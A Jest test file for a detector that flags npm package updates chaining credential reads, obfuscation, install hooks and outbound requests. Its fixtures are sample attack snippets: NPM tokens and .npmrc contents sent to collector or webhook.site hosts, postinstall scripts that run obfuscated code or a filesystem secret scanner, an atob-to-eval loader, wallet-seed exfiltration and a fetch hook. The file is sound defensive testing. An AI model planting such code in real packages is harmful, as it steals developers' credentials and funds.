import { describe, expect, it } from '@jest/globals'
import { rule } from '../../../src/rules/content/exfiltration-chain.js'
import type { RuleContext } from '../../../src/rules/types.js'
import { makeChange, makeContext, makeFiles, makeManifest } from '../../helpers/factories.js'

type Files = Record<string, string>

function packageJson(scripts: Record<string, string> = {}): string {
  return JSON.stringify({ name: 'example-pkg', version: '1.0.1', scripts }, null, 2) + '\n'
}

const BASE: Files = {
  'package.json': packageJson(),
  'index.js': 'export function add(a, b) {\n  return a + b\n}\n'
}

function changed(newFiles: Files, oldFiles: Files = BASE): RuleContext {
  return makeContext({
    files: makeFiles({ ...BASE, ...newFiles }),
    previousFiles: makeFiles(oldFiles),
    manifest: makeManifest()
  })
}

function added(newFiles: Files): RuleContext {
  return makeContext({
    change: makeChange({ previousVersion: null }),
    files: makeFiles({ ...BASE, ...newFiles }),
    manifest: makeManifest()
  })
}

const HEX_FAMILY = [
  "var _0x1a2b=['a','b'];var _0x3c4d=function(_0x5e6f,_0x7a8b){return _0x1a2b[_0x5e6f]};",
  'var _0x9c0d=_0x3c4d(0);'
].join('\n')
const WALLET = '0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976'

const FIRING: [string, Files, string][] = [
  [
    'a token read and a request in the same new file',
    {
      'lib/telemetry.js':
        "const token = process.env.NPM_TOKEN\nfetch('https://api.collector.xyz/t', { method: 'POST', body: token })\n"
    },
    'credentials-to-network'
  ],
  [
    'a credential file read in one file and a request bin in another',
    {
      'lib/read.js':
        "const fs = require('fs')\nexport const rc = fs.readFileSync(require('path').join(require('os').homedir(), '.npmrc'), 'utf8')\n",
      'lib/send.js': "export const HOOK = 'https://webhook.site/00000000-0000'\n"
    },
    'credentials-to-collector'
  ],
  [
    'a new postinstall running a new obfuscated file',
    { 'package.json': packageJson({ postinstall: 'node setup.js' }), 'setup.js': HEX_FAMILY },
    'install-runs-obfuscated-file'
  ],
  [
    'a new postinstall running a new file that spawns a secret scanner',
    {
      'package.json': packageJson({ postinstall: 'node telemetry.js' }),
      'telemetry.js':
        "const cp = require('child_process')\ncp.execSync('trufflehog filesystem /')\n"
    },
    'install-runs-active-file'
  ],
  [
    'a new postinstall running a new file that posts to a new host',
    {
      'package.json': packageJson({ postinstall: 'node report.js' }),
      'report.js': "fetch('https://stats.collector.xyz/i', { method: 'POST' })\n"
    },
    'install-runs-file-calling-new-host'
  ],
  [
    'a decode fed to eval next to a fetch',
    {
      'lib/loader.js':
        'export async function load(url) {\n  const body = await fetch(url)\n  const code = atob(await body.text())\n  eval(code)\n}\n'
    },
    'decode-eval-network'
  ],
  [
    'a wallet seed posted to a new host (xrpl shape)',
    {
      'lib/wallet.js':
        "export function check(seed) {\n  fetch('https://0x9c.xyz/xc', {\n    method: 'POST',\n    body: JSON.stringify({ seed })\n  })\n}\n"
    },
    'key-material-to-new-host'
  ],
  [
    'a fetch hook with wallet addresses (qix shape)',
    {
      'index.js': `export function add(a, b) {\n  return a + b\n}\nconst swap = ['${WALLET}']\nconst original = window.fetch\nwindow.fetch = async (...args) => original(...args)\n`
    },
    'wallet-hook'
  ]
]

describe('content/exfiltration-chain', () => {
  it.each(FIRING)('fires critical on %s', async (_name, files, combination) => {
    const findings = await rule.check(changed(files))
    expect(findings).toHaveLength(1)
    expect(findings[0]).toMatchObject({
      ruleId: 'content/exfiltration-chain',
      severity: 'critical'
    })
    expect(findings[0]?.evidence.length).toBeGreaterThanOrEqual(2)
    expect(findings[0]?.message).toMatch(/ at [\w./-]+:\d+/)
    // the combination's title is in the message
    const { COMBINATIONS } = await import('../../../src/rules/lib/correlation/combinations.js')
    const title = COMBINATIONS.find((row) => row.id === combination)?.title ?? '?'
    expect(findings[0]?.message).toContain(title)
  })

  it('names each signal with its file and line', async () => {
    const findings = await rule.check(
      changed({ 'lib/telemetry.js': FIRING[0]![1]['lib/telemetry.js']! })
    )
    expect(findings[0]?.message).toContain(
      'credential read process.env.NPM_TOKEN at lib/telemetry.js:1'
    )
    expect(findings[0]?.message).toContain('network sink fetch(…) at lib/telemetry.js:2')
    expect(findings[0]?.evidence.map((item) => `${item.file}:${item.line}`)).toEqual(
      expect.arrayContaining(['lib/telemetry.js:1', 'lib/telemetry.js:2'])
    )
  })

  it('sees an exfiltration endpoint hidden in base64', async () => {
    const findings = await rule.check(
      changed({
        'lib/a.js': 'export const all = JSON.stringify(process.env)\n',
        'lib/b.js':
          "export const target = atob('aHR0cHM6Ly93ZWJob29rLnNpdGUvMDAwMDAwMDAtMDAwMA==')\n"
      })
    )
    expect(findings[0]?.message).toContain(
      'exfiltration endpoint webhook.site (request bin) at lib/b.js:1'
    )
  })

  it('points an install-script combination at the package.json line', async () => {
    const findings = await rule.check(changed(FIRING[3]![1]))
    expect(findings[0]?.evidence).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          file: 'package.json',
          snippet: '"postinstall": "node telemetry.js"'
        })
      ])
    )
  })

  const NEAR_MISSES: [string, RuleContext][] = [
    [
      'a credential read alone',
      changed({ 'lib/a.js': 'export const t = process.env.NPM_TOKEN\n' })
    ],
    [
      'a request alone',
      changed({ 'lib/a.js': "export const go = () => fetch('https://api.acme.io')\n" })
    ],
    [
      'a token read and a request in different files',
      changed({
        'lib/a.js': 'export const t = process.env.NPM_TOKEN\n',
        'lib/b.js': "export const go = (t) => fetch('https://api.acme.io', { body: t })\n"
      })
    ],
    [
      'a new token read next to a request the previous version already made',
      changed(
        {
          'lib/a.js':
            "const t = process.env.GITHUB_TOKEN\nexport const go = () => fetch('https://api.acme.io', { headers: { t } })\n"
        },
        { ...BASE, 'lib/old.js': "export const go = () => fetch('https://api.acme.io')\n" }
      )
    ],
    [
      "the package's own API key read next to a request",
      changed({
        'lib/a.js':
          "const t = process.env.EXAMPLE_API_KEY\nexport const go = () => fetch('https://api.acme.io', { headers: { t } })\n"
      })
    ],
    [
      'a new postinstall running a clean new file',
      changed({
        'package.json': packageJson({ postinstall: 'node postinstall.js' }),
        'postinstall.js': "console.log('thanks for installing')\n"
      })
    ],
    [
      'a new postinstall running a banner that names a new host',
      changed({
        'package.json': packageJson({ postinstall: 'node banner.js' }),
        'banner.js': "console.log('Thanks! Docs: https://docs.collector.xyz')\n"
      })
    ],
    [
      'an unchanged postinstall whose file becomes obfuscated',
      changed(
        { 'package.json': packageJson({ postinstall: 'node setup.js' }), 'setup.js': HEX_FAMILY },
        {
          ...BASE,
          'package.json': packageJson({ postinstall: 'node setup.js' }),
          'setup.js': '1\n'
        }
      )
    ],
    [
      'a new postinstall running a file that was obfuscated before too',
      changed(
        {
          'package.json': packageJson({ postinstall: 'node setup.js' }),
          'setup.js': HEX_FAMILY + '\nvar _0xaaaa=1'
        },
        { ...BASE, 'setup.js': HEX_FAMILY }
      )
    ],
    [
      'a decode far from the eval',
      changed({
        'lib/loader.js': `const code = atob(process.argv[2])\n${'\n'.repeat(10)}eval(input)\nfetch(url)\n`
      })
    ],
    [
      'a wallet seed sent to a host the previous version already used',
      changed(
        {
          'lib/wallet.js':
            "export const save = (seed) => fetch('https://api.acme.io/v', { body: JSON.stringify({ seed }) })\n"
        },
        { ...BASE, 'lib/api.js': "export const BASE = 'https://api.acme.io'\n" }
      )
    ],
    [
      'a wallet address (not key material) sent to a new host',
      changed({
        'lib/wallet.js':
          "export const balance = (address) => fetch('https://rpc.newchain.io', { body: JSON.stringify({ address }) })\n"
      })
    ],
    [
      'wallet addresses without a hook',
      changed({ 'lib/w.js': `export const donate = '${WALLET}'\n` })
    ],
    [
      'a fetch hook without wallet addresses',
      changed({ 'lib/w.js': 'window.fetch = wrap(window.fetch)\n' })
    ],
    [
      'the same chain already present in the previous version',
      changed(
        { 'lib/telemetry.js': FIRING[0]![1]['lib/telemetry.js']! + '// v2\n' },
        { ...BASE, 'lib/telemetry.js': FIRING[0]![1]['lib/telemetry.js']! }
      )
    ]
  ]

  it.each(NEAR_MISSES)('stays silent on %s', async (_name, ctx) => {
    expect(await rule.check(ctx)).toEqual([])
  })

  // yarn 2.4.3's bin/yarn.js: one line holds thousands of statements, so "within 5 lines" of a
  // `new Function` says nothing about a `String.fromCharCode` elsewhere on that line
  const FILLER = Array.from({ length: 40 }, (_, i) => `function f${i}(a){return a+${i}}`).join(';')
  const bundleLine = (...parts: string[]) => `${parts.join(';')};${FILLER}\n`

  it('stays silent on a decode and a dynamic-code call sharing only a long bundle line', async () => {
    const line = bundleLine(
      'var g=new Function("return this")()',
      'function s(c){return String.fromCharCode(c)}',
      "function p(){return fetch('https://plugins.acme.io/list.yml')}"
    )
    expect(line.length).toBeGreaterThan(1000)
    expect(await rule.check(changed({ 'bin/tool.js': line }))).toEqual([])
  })

  it('still fires on a long line when the decoded text is the dynamic-code argument', async () => {
    const line = bundleLine(
      "eval(atob('ZmV0Y2goJ2h0dHBzOi8vYS5pbnZhbGlkJyk7IHZhciBwYXlsb2FkID0gMQ=='))",
      "function p(){return fetch('https://stage.collector.xyz/s')}"
    )
    const findings = await rule.check(changed({ 'bin/tool.js': line }))
    expect(findings[0]?.severity).toBe('critical')
    expect(findings[0]?.message).toContain('a new decode feeding dynamic code execution')
  })

  it('does not combine signals of different packages', async () => {
    const first = changed({ 'lib/a.js': 'export const t = process.env.NPM_TOKEN\n' })
    const second = changed({
      'lib/a.js': "export const go = () => fetch('https://webhook.site/x')\n"
    })
    expect([...(await rule.check(first)), ...(await rule.check(second))]).toEqual([])
  })

  it.each([
    ['credentials-to-network', FIRING[0]![1], 'medium'],
    ['install-runs-obfuscated-file', FIRING[2]![1], 'high'],
    ['wallet-hook', FIRING[7]![1], 'high']
  ])('grades an added package by the row %s', async (_id, files, severity) => {
    const findings = await rule.check(added(files))
    expect(findings[0]?.severity).toBe(severity)
  })

  it('lists several combinations in one finding, most severe first', async () => {
    const findings = await rule.check(
      changed({
        'package.json': packageJson({ postinstall: 'node bundle.js' }),
        'bundle.js': `${HEX_FAMILY}\nconst t = process.env.NPM_TOKEN\nfetch('https://webhook.site/x', { body: t })\n`
      })
    )
    expect(findings).toHaveLength(1)
    expect(findings[0]?.message).toContain('install script that runs')
    expect(findings[0]?.message).toContain('credential or environment read')
  })
})
